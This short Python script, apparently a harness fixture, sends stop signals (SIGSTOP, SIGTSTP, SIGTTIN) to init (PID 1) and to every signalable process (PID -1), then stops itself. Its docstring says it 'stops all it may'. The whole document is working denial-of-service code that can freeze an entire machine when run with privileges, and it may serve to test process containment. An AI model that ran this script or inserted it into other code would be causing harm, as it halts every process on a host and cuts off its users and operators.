"""Stops all it may, itself included: a stopped process answers nobody."""

import os
import signal

print("begun", flush=True)
for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN):
    for pid in (1, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGSTOP)
